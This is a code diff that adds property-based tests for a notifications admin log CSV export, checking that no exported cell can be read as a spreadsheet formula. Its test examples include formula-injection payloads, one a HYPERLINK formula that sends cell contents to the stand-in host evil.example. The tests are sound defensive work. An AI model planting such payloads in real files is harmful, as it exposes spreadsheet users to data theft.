@@ -6,6 +6,8 @@ import tracemalloc
 from datetime import timedelta
 
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from notifications.admin.log import export
 from notifications.models import Attempt
@@ -60,6 +62,31 @@ def test_no_cell_is_a_formula(megan, now, sign):
 
     for column in ("Subject", "To", "Error", "Microsoft's message"):
         assert row[column] == f"'{subject}"
+
+
+HOSTILE = st.text(st.sampled_from(";,\t\r\n\"'=+-@\uff1d ax\0\u2028"), max_size=30)
+
+
+@given(HOSTILE, HOSTILE, st.sampled_from(",;\t"))
+@example('x;=HYPERLINK("http://evil.example/?"&A1;"open");y', "", ";")
+@example('x;"=1+1";y', "", ";")
+@example("x\n=1+1", "x\n\t +1", "\t")
+@example("x; \u2028@SUM(A1)", "", ";")
+def test_no_cell_is_a_formula_whatever_the_file_is_cut_at(one, other, separator):
+    written = export._csv(
+        [[export.harmless("first"), export.harmless(one), export.harmless(other)]]
+    )
+
+    rows = csv.reader(io.StringIO(written.decode(), newline=""), delimiter=separator)
+
+    cells = [cell.strip() for row in rows for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\uff1d"))] == []
+
+
+def test_what_is_no_formula_stays_as_it_is():
+    text = "Re: a; b, c - d (+49 30 1234) a@contoso.example; 'x'"
+
+    assert export.harmless(text) == text
 
 
 def test_all_pieces_are_there_once_and_in_order_also_with_equal_times(megan, now):
